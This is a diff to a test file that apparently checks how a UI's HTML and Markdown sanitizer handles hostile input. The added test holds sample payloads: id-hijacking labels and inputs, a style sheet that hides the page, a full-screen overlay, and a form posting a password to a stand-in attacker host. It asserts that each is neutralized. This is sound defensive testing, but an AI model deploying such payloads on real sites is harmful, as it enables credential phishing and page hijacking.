@@ -4,7 +4,7 @@
 // which stays loaded for the page.
 import { h, render } from "preact";
 import { afterEach, describe, expect, it } from "vitest";
-import { loadRich, renderMarkdown, richNeeds, type LatexDelimiter } from "../../ui/rich/sanitize.ts";
+import { loadRich, renderMarkdown, richNeeds, sanitizeHtml, type LatexDelimiter } from "../../ui/rich/sanitize.ts";
 import { useRich } from "../../ui/rich/use-rich.ts";
 import { injectStyles } from "../../ui/styles.ts";
 import { waitFor } from "./helpers.ts";
@@ -188,6 +188,47 @@ describe("app values stay data", () => {
     expect(urls.filter((u) => /^\s*javascript:/i.test(u))).toEqual([]);
     expect(app.querySelectorAll(".katex-error").length).toBeGreaterThan(0);
   });
+});
+
+describe("a value's markup stays inside its component (issue #13 item 19)", () => {
+  const hostile = [
+    // A label pointing at the runtime's own control ids, and ids and names in the runtime's space.
+    '<label for="gr-c0">Click me</label><input id="gr-c1" name="gr-c2" aria-describedby="gr-c3 mine"><p id="mine">mine</p>',
+    // A style sheet for the whole page, and a box fixed over it.
+    '<style>body { display: none }</style><div style="position:fixed;inset:0;z-index:99999;background:red" id="overlay">covered</div>',
+    '<div style="color: blue; position : sticky; top: 0" id="sticky">sticky</div>',
+    // A form that posts what the user types to another site.
+    '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example/b">Log in</button></form>',
+  ].join("\n");
+
+  for (const [kind, render] of [["HTML", sanitizeHtml], ["Markdown", (t: string) => renderMarkdown(t)]] as const) {
+    it(`${kind}: renames ids in the runtime's space, drops <style>, forms and fixed boxes`, () => {
+      const control = document.createElement("input");
+      control.id = "gr-c0";
+      document.body.append(control);
+      const app = show(render(hostile));
+      // The runtime's control keeps its label to itself.
+      expect(document.querySelectorAll('label[for="gr-c0"]')).toHaveLength(0);
+      expect(app.querySelector("label")!.getAttribute("for")).toBe("user-content-gr-c0");
+      expect(app.querySelector("input")!.id).toBe("user-content-gr-c1");
+      expect(app.querySelector("input")!.getAttribute("name")).toBe("user-content-gr-c2");
+      expect(app.querySelector("input")!.getAttribute("aria-describedby")).toBe("user-content-gr-c3 mine");
+      expect(document.querySelectorAll("#gr-c0")).toHaveLength(1);
+      // Ids outside it stay, for the page's own scripts.
+      expect(app.querySelector("#mine")!.textContent).toBe("mine");
+      expect(app.querySelector("style")).toBeNull();
+      expect(getComputedStyle(document.body).display).not.toBe("none");
+      expect(getComputedStyle(app.querySelector("#overlay")!).position).toBe("static");
+      expect(app.querySelector<HTMLElement>("#overlay")!.style.zIndex).toBe("99999");
+      expect(getComputedStyle(app.querySelector("#sticky")!).position).toBe("static");
+      expect(app.querySelector<HTMLElement>("#sticky")!.style.color).toBe("blue");
+      expect(app.querySelector("form")).toBeNull();
+      expect(app.querySelectorAll("[action], [formaction]")).toHaveLength(0);
+      // What they held stays readable.
+      expect(app.textContent).toContain("Log in");
+      control.remove();
+    });
+  }
 });
 
 describe("useRich", () => {
